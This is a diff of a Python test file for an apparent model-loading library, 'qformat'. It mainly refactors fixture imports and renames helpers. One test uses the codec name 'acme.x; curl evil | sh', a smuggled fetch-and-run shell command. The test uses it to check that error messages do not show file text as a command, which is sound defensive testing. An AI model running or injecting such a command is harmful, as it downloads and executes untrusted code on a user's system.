@@ -14,8 +14,7 @@ from pathlib import Path
 import numpy as np
 import pytest
 import torch
-from test_hub import TOKEN, hub_env, hub_server  # noqa: F401  (fixtures: a local Hub-protocol server)
-from test_loader import _rewrite_records, input_ids, tiny_model, write_folder
+from helpers import HUB_TOKEN, input_ids, rewrite_records, tiny_model, write_folder
 
 from qformat.errors import FormatError, PluginError
 from qformat.format import QuantizedTensor, open_file, sha256_file, write_file
@@ -131,7 +130,7 @@ def test_missing_codec_message_never_shows_file_text_as_a_command(tmp_path, prov
     import qformat
 
     folder = write_folder(tiny_model(), tmp_path / "m")
-    _rewrite_records(folder, _unknown_codec("acme.zigzag"), requires={"acme.zigzag": provider})
+    rewrite_records(folder, _unknown_codec("acme.zigzag"), requires={"acme.zigzag": provider})
     with pytest.raises(PluginError) as info:
         qformat.load(folder)
     message = str(info.value)
@@ -144,7 +143,7 @@ def test_missing_codec_message_names_a_valid_package_only_as_the_models_claim(tm
     import qformat
 
     folder = write_folder(tiny_model(), tmp_path / "m")
-    _rewrite_records(folder, _unknown_codec("acme.zigzag"), requires={"acme.zigzag": "qformat-zigzag>=1.2,<2"})
+    rewrite_records(folder, _unknown_codec("acme.zigzag"), requires={"acme.zigzag": "qformat-zigzag>=1.2,<2"})
     with pytest.raises(PluginError) as info:
         qformat.load(folder)
     message = str(info.value)
@@ -156,7 +155,7 @@ def test_missing_codec_message_withholds_a_malformed_codec_name(tmp_path):
     import qformat
 
     folder = write_folder(tiny_model(), tmp_path / "m")
-    _rewrite_records(folder, _unknown_codec("acme.x; curl evil | sh"), requires={"other": "x"})
+    rewrite_records(folder, _unknown_codec("acme.x; curl evil | sh"), requires={"other": "x"})
     with pytest.raises(PluginError) as info:
         qformat.load(folder)
     message = str(info.value)
@@ -281,7 +280,7 @@ def test_hub_download_is_verified_once_and_a_corrupted_cache_blob_is_refused(goo
     import qformat
     from qformat.hub import push_folder, resolve_model_source
 
-    push_folder(good, "user/checked", token=TOKEN)
+    push_folder(good, "user/checked", token=HUB_TOKEN)
     hashes = HashCounter(monkeypatch)
     qformat.load("user/checked")
     assert hashes.take() == 2
